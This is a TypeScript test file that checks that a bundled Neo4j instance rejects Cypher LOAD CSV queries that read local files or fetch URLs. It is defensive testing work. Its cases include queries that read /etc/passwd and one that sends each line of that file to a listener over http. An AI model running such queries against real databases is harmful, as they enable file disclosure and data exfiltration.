import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { testDriver } from '../../test/support/neo4j';
import { startListener } from '../../test/support/hostile-queries';

/**
 * The bundled Neo4j's own settings (neo4j/src/main/java/wutong/Launcher.java), tested on the instance
 * scripts/test.mjs started with the same launcher: even a write transaction, where no read-only check
 * applies (wutong query --write), reads no file and fetches no URL from Cypher.
 */
const driver = testDriver();
let listener: Awaited<ReturnType<typeof startListener>>;

before(async () => { listener = await startListener(); });
after(async () => {
  await listener.close();
  await driver.close();
});

test('LOAD CSV can read no file and fetch no URL, on IPv4 or IPv6', async () => {
  const port = new URL(listener.url).port;
  const cases: { label: string; query: string; error: RegExp }[] = [
    { label: 'a local file', query: "LOAD CSV FROM 'file:///etc/passwd' AS r RETURN r LIMIT 3", error: /allow_csv_import_from_file_urls' is false/ },
    { label: 'a file under the import folder', query: "LOAD CSV FROM 'file:///data.csv' AS r RETURN r", error: /allow_csv_import_from_file_urls' is false/ },
    { label: 'http on 127.0.0.1', query: `LOAD CSV FROM 'http://127.0.0.1:${port}/x' AS r RETURN r`, error: /blocked via the configuration property internal\.dbms\.cypher_ip_blocklist/ },
    { label: 'http on localhost', query: `LOAD CSV FROM 'http://localhost:${port}/x' AS r RETURN r`, error: /cypher_ip_blocklist/ },
    { label: 'http on ::1', query: `LOAD CSV FROM 'http://[::1]:${port}/x' AS r RETURN r`, error: /cypher_ip_blocklist/ },
    { label: 'http on a public address', query: "LOAD CSV FROM 'http://93.184.215.14/x' AS r RETURN r", error: /cypher_ip_blocklist/ },
    { label: 'a file sent to a listener', query: `LOAD CSV FROM 'file:///etc/passwd' AS r LOAD CSV FROM 'http://127.0.0.1:${port}/?d=' + r[0] AS s RETURN s`, error: /allow_csv_import_from_file_urls' is false/ },
  ];
  for (const c of cases) {
    await assert.rejects(driver.executeQuery(c.query), (error: { code?: string; message: string }) => {
      assert.equal(error.code, 'Neo.ClientError.Statement.ExternalResourceFailed', `${c.label}: ${error.message}`);
      assert.match(error.message, c.error, c.label);
      return true;
    }, c.label);
  }
  assert.deepEqual(listener.requests, [], 'the listener was never called');
});
